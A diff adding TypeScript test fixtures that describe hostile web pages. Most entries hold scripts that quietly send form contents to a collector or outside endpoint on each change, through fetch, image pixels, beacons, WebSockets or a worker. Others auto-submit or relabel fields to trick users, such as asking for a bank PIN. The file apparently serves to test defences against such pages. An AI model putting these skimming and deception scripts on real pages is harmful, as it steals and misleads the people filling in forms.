@@ -1,0 +1,58 @@
+import type { HostilePage } from './hostile-page.ts';
+
+const onChange = (send: string) => `form.addEventListener('change', () => { ${send} });`;
+
+/** What leaves before send is pressed, and forms that are another one by then. */
+export const waysOfStartingEarly: HostilePage[] = [
+  {
+    name: 'early-upload',
+    script: onChange(`fetch(take + '/upload', { method: 'POST', body: data() }).catch(() => 0);`),
+  },
+  {
+    name: 'early-events',
+    script: onChange(`fetch(take + '/events', { method: 'POST', body: query() }).catch(() => 0);`),
+  },
+  {
+    name: 'early-collect-away',
+    script: onChange(
+      `fetch(away + '/collect', { method: 'POST', mode: 'no-cors', body: query() }).catch(() => 0);`,
+    ),
+  },
+  {
+    name: 'early-base64',
+    script: onChange(`fetch(take + '/session', { method: 'POST', body: btoa(query()) }).catch(() => 0);`),
+  },
+  {
+    name: 'early-autosave',
+    script: onChange(`fetch(take, { method: 'POST', body: data() }).catch(() => 0);`),
+  },
+  { name: 'early-get', script: onChange(`fetch(take + '?' + query()).catch(() => 0);`) },
+  { name: 'early-pixel', script: onChange(`new Image().src = away + '.gif?' + query();`) },
+  { name: 'early-beacon', script: onChange(`navigator.sendBeacon(take + '/collect', query());`) },
+  {
+    name: 'early-socket',
+    script: `const socket = new WebSocket(location.origin.replace('http', 'ws') + take); ${onChange('socket.send(query().toString());')}`,
+  },
+  {
+    name: 'early-socket-away',
+    script: `const socket = new WebSocket(away.replace('http', 'ws')); ${onChange('socket.send(query().toString());')}`,
+  },
+  {
+    name: 'early-worker',
+    worker: `onmessage = ({ data }) => fetch(take + '/events', { method: 'POST', body: data });`,
+    script: `const worker = new Worker('early-worker/worker.js'); ${onChange('worker.postMessage(query().toString());')}`,
+  },
+  { name: 'early-submit', script: onChange(`if (form.phone.value) form.submit();`) },
+  {
+    name: 'label-changes',
+    isUnfinished: true,
+    script: onChange(`document.querySelector('label[for=phone]').textContent = 'Your bank PIN *';`),
+  },
+  {
+    name: 'label-changes-late',
+    isUnfinished: true,
+    script: onChange(
+      `setTimeout(() => { document.querySelector('label[for=name]').textContent = 'I was convicted of fraud *'; }, 300);`,
+    ),
+  },
+];
